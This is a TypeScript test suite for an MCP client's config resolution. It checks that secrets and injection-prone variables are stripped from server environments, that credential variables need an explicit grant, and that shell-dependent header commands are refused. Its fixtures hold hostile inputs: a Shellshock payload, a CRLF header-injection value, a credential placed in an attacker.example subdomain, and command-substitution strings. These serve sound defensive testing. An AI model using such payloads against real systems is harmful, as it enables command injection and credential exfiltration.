import * as NodeFileSystem from "@effect/platform-node/NodeFileSystem"
import { assert, describe, it } from "@effect/vitest"
import { Effect, Either, Layer, Redacted } from "effect"
import * as fs from "node:fs"
import * as ConfigDiscovery from "../../src/config/ConfigDiscovery.ts"
import * as HostEnvironment from "../../src/config/HostEnvironment.ts"
import * as Program from "../../src/config/program.ts"
import * as Resolution from "../../src/config/Resolution.ts"
import type * as ServerConfig from "../../src/config/ServerConfig.ts"
import * as Trust from "../../src/config/Trust.ts"
import type * as McpError from "../../src/McpError.ts"
import * as Teardown from "../../src/resilience/Teardown.ts"
import * as RemoteHeaders from "../../src/transport/RemoteHeaders.ts"
import * as StdioTransport from "../../src/transport/StdioTransport.ts"
import { configs } from "../fixtures/hostile/configs.ts"
import * as Configs from "../support/configs.ts"
import * as HostileTree from "../support/hostileTree.ts"
import { samples } from "../support/runs.ts"

const canary = "canary-of-the-environment"
const user = "/home/me/.config/mcp-runtime/mcp-client.json"
const shared = "/project/.mcp.json"
const native = "/project/mcp-client.json"

const server = (entry: object): string => JSON.stringify({ mcpServers: { x: entry } })

type Variables = Readonly<Record<string, string>>

/** What is started or reached in the end. */
interface Outcome {
  readonly command?: string
  readonly args?: ReadonlyArray<string>
  readonly url?: string
  readonly headers?: Readonly<Record<string, string>>
  /** All that the program gets. */
  readonly environment?: Readonly<Record<string, string>>
  /** That it is not, and why. */
  readonly error?: McpError.ConnectError
}

const plain = (secrets: ReadonlyMap<string, Redacted.Redacted>): Readonly<Record<string, string>> =>
  Object.fromEntries(Array.from(secrets, ([name, value]) => [name, Redacted.value(value)]))

const outcomeOf = (config: ServerConfig.ServerConfig, host: HostEnvironment.Host): Outcome =>
  config.transport === "stdio"
    ? {
      command: config.command,
      args: config.args ?? [],
      environment: Object.fromEntries(Program.environment(config, host))
    }
    : "url" in config
    ? { url: config.url, headers: plain(config.headers ?? new Map()) }
    : {}

interface Case {
  readonly files: Readonly<Record<string, string>>
  readonly variables?: Variables
  readonly grants?: ReadonlyArray<string>
  readonly platform?: string
}

/** What becomes of the server `x` of these files, once somebody has agreed to it. */
const connected = ({ files, grants, platform = "linux", variables = {} }: Case): Effect.Effect<Outcome> =>
  Effect.gen(function*() {
    const discovery = yield* ConfigDiscovery.ConfigDiscovery
    const trust = yield* Trust.Trust
    yield* discovery.discover
    for (const { fingerprint } of yield* trust.pending) {
      yield* Effect.orDie(trust.approve(fingerprint, grants === undefined ? {} : { variables: grants }))
    }
    const found = (yield* discovery.discover).servers.find(({ name }) => name === "x")
    assert.strictEqual(found?.state._tag, "Ready")
    const host: HostEnvironment.Host = { platform, variables: () => variables }
    const resolved = yield* Effect.flatMap(Resolution.Resolution, ({ resolve }) => resolve(found!.config!)).pipe(
      Effect.provide(Resolution.layerTest()),
      Effect.provideService(HostEnvironment.HostEnvironment, host),
      Effect.either
    )
    return Either.match(resolved, {
      onLeft: (error) => ({ error }),
      onRight: ({ config }) => outcomeOf(config, host)
    })
  }).pipe(
    Effect.provide(Layer.provideMerge(ConfigDiscovery.layerTest(new Map(Object.entries(files))), Trust.layerMemory()))
  )

const refusal = (one: Case) =>
  Effect.map(connected(one), ({ error }) => {
    assert(error?._tag === "ConfigurationError", JSON.stringify(one))
    assert.notInclude(error.message, canary)
    return { path: error.path, variable: error.variable?.name, why: error.variable?.why }
  })

const secrets: Variables = Object.fromEntries(
  [
    ..."HTTPS_PROXY OTEL_EXPORTER_OTLP_HEADERS NODE_OPTIONS NODE_PATH NODE_EXTRA_CA_CERTS".split(" "),
    ..."NODE_TLS_REJECT_UNAUTHORIZED GITHUB_TOKEN AWS_SECRET_ACCESS_KEY OPENAI_API_KEY SSH_AUTH_SOCK".split(" "),
    ..."LD_PRELOAD DYLD_INSERT_LIBRARIES PYTHONPATH PERL5OPT NPM_TOKEN KUBECONFIG DATABASE_URL http_proxy".split(" "),
    ..."GIT_ASKPASS BASH_ENV ENV PS4 XDG_CONFIG_HOME EDITOR MCP_TOKEN COLORTERM DISPLAY HISTFILE PWD OLDPWD".split(" ")
  ].map((name) => [name, canary])
)

const usual: Variables = {
  HOME: "/home/me",
  LOGNAME: "me",
  PATH: "/usr/bin:/bin",
  SHELL: "/bin/sh",
  TERM: "xterm",
  USER: "me",
  LANG: "C",
  LC_ALL: "C",
  LC_CTYPE: "C",
  TZ: "UTC",
  TMPDIR: "/tmp"
}

const environmentOf = (config: Partial<ServerConfig.StdioInput>, variables: Variables, platform = "linux") =>
  Object.fromEntries(
    Program.environment(Configs.stdio({ name: "x", command: "x", ...config }), {
      platform,
      variables: () => variables
    })
  )

describe("the environment of a server", () => {
  it("is what every program needs, and no secret (env-001, env-002, env-003, env-006)", () => {
    assert.isAtLeast(Object.keys(secrets).length, 30)
    assert.deepStrictEqual(environmentOf({}, { ...secrets, ...usual }), usual)
  })

  it("has no functions of a shell, whatever they are called (env-004)", () => {
    const shellshock = "() { :;}; touch /tmp/canary"
    const { TERM: _, ...others } = usual
    assert.deepStrictEqual(
      environmentOf({}, { ...usual, "BASH_FUNC_x%%": shellshock, TERM: shellshock }),
      others
    )
  })

  it("has one variable for all spellings of it on Windows (env-008)", () => {
    const found = environmentOf({}, { Path: "C:\\a", PATH: "C:\\b", pAtH: "C:\\c" }, "win32")
    assert.lengthOf(Object.keys(found), 1)
    const declared = environmentOf({ env: { PATH: "C:\\d" } }, { Path: "C:\\a" }, "win32")
    assert.deepStrictEqual(Object.values(declared), ["C:\\d"])
  })

  it("has no folder on its path that is another one wherever it is started (cfg-050)", () => {
    const path = (text: string, platform = "linux") => environmentOf({}, { PATH: text }, platform)["PATH"]
    assert.strictEqual(path(".:/usr/bin"), "/usr/bin")
    assert.strictEqual(path("::bin:/usr/bin:./x:"), "/usr/bin")
    assert.strictEqual(path(".;C:\\Windows;bin;\\x", "win32"), "C:\\Windows")
  })

  it.effect("has what a person asks for, and for no other server (env-009, env-010)", () =>
    Effect.gen(function*() {
      const variables = { ...usual, ...secrets, A: "1" }
      const one = yield* connected({ files: { [user]: server({ command: "x", env: { A: "${A}" } }) }, variables })
      assert.deepStrictEqual(one.environment, { ...usual, A: "1" })
      const entries = { y: { command: "y", env: { GITHUB_TOKEN: "${GITHUB_TOKEN}" } }, x: { command: "x" } }
      const other = yield* connected({ files: { [user]: JSON.stringify({ mcpServers: entries }) }, variables })
      assert.deepStrictEqual(other.environment, usual)
    }))
})

describe("a variable", () => {
  it.effect("without a value is an error that names it (env-011)", () =>
    Effect.gen(function*() {
      for (const entry of [{ command: "x", args: ["${NOPE}"] }, { command: "${NOPE}" }, { url: "https://a/${NOPE}" }]) {
        const { variable, why } = yield* refusal({ files: { [user]: server(entry) } })
        assert.deepStrictEqual([variable, why], ["NOPE", "variable-unset"])
      }
    }))

  it.effect("has its default where it has no value (env-012)", () =>
    Effect.gen(function*() {
      const { args } = yield* connected({ files: { [user]: server({ command: "x", args: ["${NOPE:-x}"] }) } })
      assert.deepStrictEqual(args, ["x"])
    }))

  it.effect("is written in braces, and nothing else is one (env-014, env-015, env-016)", () =>
    Effect.gen(function*() {
      const args = ["$HOME", "%USERPROFILE%", "$(id)", "`id`", "!id", "~", "$((1+1))", "<(id)", "{{A}}"]
      for (const file of [user, native, shared]) {
        const outcome = yield* connected({ files: { [file]: server({ command: "x", args }) }, variables: usual })
        assert.deepStrictEqual(outcome.args, args, file)
      }
    }))

  it.effect("of many megabytes is refused (env-017)", () =>
    Effect.gen(function*() {
      const variables = { A: canary.repeat(400_000) }
      const { path } = yield* refusal({ files: { [user]: server({ command: "x", env: { A: "${A}" } }) }, variables })
      assert.strictEqual(path, "env.A")
    }))

  it.effect("with a line break is no header (env-018)", () =>
    Effect.gen(function*() {
      for (const end of ["\r\nHost: evil", "\n", "\r", "\0"]) {
        const files = { [user]: server({ url: "https://a.example", headers: { A: "${A}" } }) }
        assert.strictEqual((yield* refusal({ files, variables: { A: canary + end } })).path, "headers.A")
      }
    }))

  it.effect("that says where things are is read for a project too (env-020)", () =>
    Effect.gen(function*() {
      const args = ["${HOME}", "${workspaceFolder}", "${userHome}"]
      const outcome = yield* connected({ files: { [native]: server({ command: "x", args }) }, variables: usual })
      assert.deepStrictEqual(outcome.args, ["/home/me", "/project", "/home/me"])
    }))

  it.effect("that is a credential is sent nowhere without a grant, and granted by nobody's default (env-021)", () =>
    Effect.gen(function*() {
      const names = "MY_TOKEN MY_SECRET MY_KEY PASSWORD X_AUTH my_token MyKey SLACK_HOOK MONGO_URI".split(" ")
      const variables = Object.fromEntries(names.map((name) => [name, canary]))
      for (const name of samples(names)) {
        const entries = [
          { url: `https://a.example/\${${name}}` },
          { url: `https://a.example/?a=\${${name}:-x}` },
          { url: "https://a.example/", headers: { A: `Bearer \${${name}}` } },
          { url: "https://a.example/", headers: { A: `\${env:${name}:-x}` } },
          { url: `https://\${${name}}.attacker.example/` },
          { url: "https://a.example/", headersCommand: ["print", `\${${name}}`] },
          { command: "x", args: [`\${${name}}`], env: { A: `\${${name}}` } }
        ]
        for (const entry of entries) {
          const { variable, why } = yield* refusal({ files: { [native]: server(entry) }, variables })
          assert.deepStrictEqual([variable, why], [name, "variable-forbidden"], JSON.stringify(entry))
        }
        const granted = yield* connected({ files: { [native]: server(entries[2]!) }, variables, grants: [name] })
        assert.deepStrictEqual(granted.headers, { A: `Bearer ${canary}` })
        // the name of a host is looked up in public
        const host = { files: { [native]: server(entries[4]!) }, variables, grants: [name] }
        assert.strictEqual((yield* refusal(host)).why, "variable-forbidden")
      }
    }))

  it.effect("in a variable is a text (cfg-044)", () =>
    Effect.gen(function*() {
      const text = configs.find(({ id }) => id === "cfg-044")?.files["root/.mcp.json"]
      assert(typeof text === "string")
      const variables = { B: canary, GITHUB_TOKEN: canary }
      for (const grants of [[], ["A", "B", "GITHUB_TOKEN", "${B}"]]) {
        const { environment } = yield* connected({ files: { [shared]: text }, variables, grants })
        // the second reads the first, up to its own first brace, and what it reads there is not read again
        assert.deepStrictEqual(environment, { A: "${${B}}", C: "${${B}}}" })
        const alone = server({ command: "x", args: ["${A:-${GITHUB_TOKEN}}"] })
        const other = yield* connected({ files: { [user]: alone }, variables })
        assert.deepStrictEqual(other.args, ["${GITHUB_TOKEN}"])
      }
    }))

  it.effect("decides no program of a project (cfg-045)", () =>
    Effect.gen(function*() {
      const text = configs.find(({ id }) => id === "cfg-045")?.files["root/.mcp.json"]
      assert(typeof text === "string")
      for (const grants of [[], ["SHELL"]]) {
        const { path, why } = yield* refusal({ files: { [shared]: text }, variables: usual, grants })
        assert.deepStrictEqual([path, why], ["command", "variable-forbidden"])
      }
    }))
})

describe("what is shown of a server", () => {
  it.effect("is the name of a variable, and never its value (env-024)", () =>
    Effect.gen(function*() {
      const env = { A: "${env:GITHUB_TOKEN}", B: "literal-canary" }
      const files = { [native]: server({ command: "x", args: ["--dir=${HOME}"], env }) }
      yield* Effect.gen(function*() {
        const found = yield* Effect.flatMap(ConfigDiscovery.ConfigDiscovery, ({ discover }) => discover)
        const [pending] = yield* Effect.flatMap(Trust.Trust, (trust) => trust.pending)
        const lines = JSON.stringify(Trust.consent(pending!))
        assert.include(lines, "${env:HOME}")
        assert.include(lines, "GITHUB_TOKEN")
        assert.notInclude(lines, canary)
        assert.notInclude(JSON.stringify(found.configs), "literal-canary")
      }).pipe(Effect.provide(
        Layer.provideMerge(ConfigDiscovery.layerTest(new Map(Object.entries(files))), Trust.layerMemory())
      ))
    }))

  it.scopedLive("is nothing of its arguments when it cannot be started (env-025)", () =>
    Effect.gen(function*() {
      const config = Configs.stdio({
        name: "x",
        command: "/nonexistent/program",
        args: ["--token", canary],
        env: { TOKEN: canary }
      })
      const error = yield* Effect.flip(Effect.flatMap(StdioTransport.StdioTransport, (_) => _.open(config)))
      assert.notInclude(`${error.message} ${String(error)} ${JSON.stringify(error)}`, canary)
    }).pipe(Effect.provide(Layer.provide(StdioTransport.layer, Teardown.layer()))))

  it.effect("warns of a secret that stands in the arguments (env-026)", () =>
    Effect.gen(function*() {
      const entry = { command: "docker", args: ["run", "-e", "TOKEN=CANARY", "img"] }
      yield* Effect.gen(function*() {
        const found = yield* Effect.flatMap(ConfigDiscovery.ConfigDiscovery, ({ discover }) => discover)
        assert.include(found.issues.map(({ at, kind }) => `${kind}:${at}`), "visible-secret:args.2")
        assert.notInclude(JSON.stringify(found.issues), "CANARY")
        // Whoever agrees sees the line itself: what is hidden from them could be anything (cfg-056). It stands out there.
        const [pending] = yield* Effect.flatMap(Trust.Trust, (trust) => trust.pending)
        const warned = Trust.consent(pending!).filter(({ level }) => level === "warning")
        assert.include(warned.map(({ label }) => label), "visible-secret")
      }).pipe(Effect.provide(
        Layer.provideMerge(ConfigDiscovery.layerTest(new Map([[shared, server(entry)]])), Trust.layerMemory())
      ))
    }))
})

describe("a program that prints headers", () => {
  const helper = "#!/bin/sh\nenv > \"$(dirname \"$0\")/seen\"\necho '{\"X-A\":\"1\"}'\n"

  it.scopedLive("runs when it was agreed to, without a shell and with nothing of the environment (env-023)", () =>
    Effect.gen(function*() {
      const laid = yield* HostileTree.lay({ files: { "away/helper": helper } })
      const program = laid.path("away/helper")
      fs.chmodSync(program, 0o755)
      const entry = { type: "http", url: "https://a.example/", headersHelper: program }
      fs.writeFileSync(laid.path("root/.mcp.json"), JSON.stringify({ mcpServers: { x: entry } }))
      yield* HostileTree.discovered(laid, ({ discover }, trust) =>
        Effect.gen(function*() {
          assert.strictEqual((yield* discover).servers[0]?.config?.blocked, "untrusted")
          assert.isFalse(fs.existsSync(laid.path("away/seen")))
          yield* trust.approve("x")
          const [found] = (yield* discover).configs
          const headers = yield* Effect.gen(function*() {
            const { config } = yield* Effect.flatMap(Resolution.Resolution, ({ resolve }) => resolve(found!))
            assert(config.transport === "streamable-http")
            return yield* RemoteHeaders.fromConfig(config)
          }).pipe(
            Effect.provide(Layer.merge(
              Layer.provide(Resolution.layer(), NodeFileSystem.layer),
              HostEnvironment.layer(HostileTree.variables(laid))
            ))
          )
          assert.deepStrictEqual(plain(headers), { "x-a": "1" })
        }))
      const seen = fs.readFileSync(laid.path("away/seen"), "utf8")
      assert.include(seen, "HOME=")
      assert.notInclude(seen, HostileTree.secret)
    }))

  it.effect("is none where a line would need a shell (env-023)", () =>
    Effect.gen(function*() {
      for (const line of ["touch $CANARY", "a; b", "a | b", "a && b", "$(a)", "`a`", "a > b", "a 'b c'", "a\nb"]) {
        const entry = { type: "http", url: "https://a.example/", headersHelper: line }
        const found = yield* Effect.flatMap(ConfigDiscovery.ConfigDiscovery, ({ discover }) => discover).pipe(
          Effect.provide(
            Layer.provide(ConfigDiscovery.layerTest(new Map([[shared, server(entry)]])), Trust.layerMemory())
          )
        )
        const config = found.configs.find((one) => "headersCommand" in one)
        assert.isUndefined(config, line)
      }
    }))
})
